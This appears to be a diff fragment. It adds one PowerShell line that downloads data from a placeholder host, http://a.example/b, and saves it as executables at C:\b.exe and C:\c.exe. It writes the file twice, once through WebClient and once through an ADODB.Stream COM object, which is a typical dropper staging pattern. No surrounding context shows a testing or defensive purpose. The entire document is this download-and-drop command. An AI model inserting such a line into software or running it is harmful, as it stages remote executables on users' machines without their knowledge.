@@ -1,0 +1,1 @@
+$b=(New-Object Net.WebClient).DownloadData('http://a.example/b'); [IO.File]::WriteAllBytes('C:\b.exe',$b); $s=New-Object -ComObject ADODB.Stream; $s.Open(); $s.Write($b); $s.SaveToFile('C:\c.exe')
